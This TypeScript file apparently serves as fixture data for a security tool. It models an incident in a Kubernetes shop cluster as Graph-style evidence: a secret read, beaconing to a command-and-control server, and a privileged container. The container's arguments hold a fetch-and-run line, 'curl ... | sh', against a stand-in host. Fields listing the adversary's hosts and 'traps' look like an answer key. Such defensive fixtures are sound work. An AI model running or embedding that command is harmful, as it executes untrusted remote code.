import { guid, hex } from "../../ids.js";
import { connection, ip, raw, within } from "./exhibits.js";
import type { Incident } from "./incident.js";

const SERVER = "2001:db8:c2::2f";
const POD = "10.30.0.17";

const cluster = {
  name: "shop-aks",
  platform: "aks",
  version: "1.31.4",
  distribution: null,
  cloudResource: within({
    "@odata.type": "#microsoft.graph.security.azureResourceEvidence",
    resourceId: `/subscriptions/${guid("shop")}/resourceGroups/shop/providers/Microsoft.ContainerService/managedClusters/shop-aks`,
    resourceName: "shop-aks",
    resourceType: "Microsoft.ContainerService/managedClusters",
  }),
};
const namespace = { name: "checkout", cluster: within(cluster), labels: { team: "shop" } };
const account = { name: "default", namespace: within(namespace) };
const controller = { name: "cart-worker", type: "Deployment", namespace: within(namespace), labels: null };
const registry = { registry: "images.contoso.example" };
const image = {
  imageId: "images.contoso.example/cart-worker:4.2",
  digestImage: within({ imageId: `sha256:${hex("cart-worker 4.2", 64)}` }),
  registry: within(registry),
};
const container = {
  name: "cart-worker",
  containerId: hex("container cart-worker", 64),
  image: within(image),
  command: ["/bin/sh", "-c"],
  args: ["curl -s http://health-beacon.test/n | sh"],
  isPrivileged: true,
};
const pod = {
  name: "cart-worker-5d9c7",
  podIp: within({ ipAddress: POD }),
  namespace: within(namespace),
  controller: within(controller),
  serviceAccount: within(account),
  labels: { app: "cart-worker" },
  containers: [within(container, "suspicious")],
  initContainers: [],
  ephemeralContainers: [],
};

/** Containers of a shop that do something else. */
export const clusterMiner: Incident = {
  name: "cluster-miner",
  id: "4017",
  title: "Suspicious activity in a Kubernetes cluster",
  created: "2025-12-19T04:40:00Z",
  updated: "2025-12-22T11:00:00Z",
  severity: "high",
  status: "inProgress",
  classification: "truePositive",
  determination: "malware",
  priority: 83,
  assigned: "s.duarte@contoso.example",
  tags: ["Shop"],
  description: "A container of the shop asks a control server for its orders and reads secrets.",
  alerts: [
    {
      title: "A secret was read by an account that never does",
      first: "2025-12-19T04:31:00Z",
      last: "2025-12-19T04:32:00Z",
      severity: "medium",
      product: "ci",
      categories: ["CredentialAccess"],
      techniques: ["T1552.007"],
      description: "The account of a pod read a secret of its namespace.",
      evidence: [
        raw("kubernetesSecretEvidence", ["suspicious", "attacked"], {
          name: "payment-keys",
          secretType: "Opaque",
          namespace: within(namespace),
        }),
        raw("kubernetesServiceAccountEvidence", ["suspicious", "compromised"], account),
        raw("kubernetesNamespaceEvidence", ["unknown", "contextual"], namespace),
        raw("kubernetesClusterEvidence", ["unknown", "contextual"], cluster),
      ],
    },
    {
      title: "Connection from a pod to a control server",
      first: "2025-12-19T04:12:00Z",
      last: "2025-12-19T05:20:00Z",
      severity: "high",
      product: "ci",
      categories: ["CommandAndControl"],
      techniques: ["T1071.001"],
      actor: "Tin Squall",
      description: "A container connects to a server of a remote access tool at regular intervals.",
      evidence: [
        raw("dnsEvidence", ["malicious", "commandAndControl"], {
          domainName: "node-status.example",
          ipAddresses: [within({ ipAddress: SERVER }, "malicious")],
          hostIpAddress: within({ ipAddress: POD }),
          dnsServerIp: within({ ipAddress: "10.30.0.10" }),
        }),
        connection([POD, 41_200], [SERVER, 443], ["malicious", "commandAndControl"]),
        raw("kubernetesPodEvidence", ["malicious", "compromised"], pod),
        raw("kubernetesControllerEvidence", ["suspicious", "compromised"], controller),
        raw("kubernetesServiceEvidence", ["unknown", "contextual"], {
          name: "cart",
          serviceType: "loadBalancer",
          clusterIP: within({ ipAddress: "10.30.8.4" }),
          externalIPs: [within({ ipAddress: "192.0.2.205" })],
          servicePorts: [
            {
              name: "https",
              port: 443,
              nodePort: 30_443,
              targetPort: "8443",
              protocol: "tcp",
              appProtocol: null,
            },
          ],
          selector: { app: "cart-worker" },
          labels: null,
          namespace: within(namespace),
        }),
      ],
    },
    {
      title: "A container with all rights was started",
      first: "2025-12-19T04:05:00Z",
      last: "2025-12-19T04:06:00Z",
      severity: "medium",
      product: "ci",
      categories: ["Execution", "PrivilegeEscalation"],
      techniques: ["T1610", "T1611"],
      description:
        "A container that may do all that its machine may was started with a command from outside.",
      evidence: [
        raw("containerEvidence", ["malicious", "suspicious"], { ...container, pod: within(pod) }),
        raw("containerImageEvidence", ["unknown", "contextual"], image),
        raw("containerRegistryEvidence", ["noThreatsFound", "contextual"], registry),
        raw("urlEvidence", ["malicious", "source"], { url: "http://health-beacon.test/n" }),
        ip("192.0.2.205", ["noThreatsFound", "contextual"], "IS"),
      ],
    },
  ],
  meaning: "to all of tin-kestrel, from a pod that asks two of its names",
  adversary: ["node-status.example", "health-beacon.test", SERVER],
  traps: { "192.0.2.205": "the shop's own address, as seen from outside" },
};
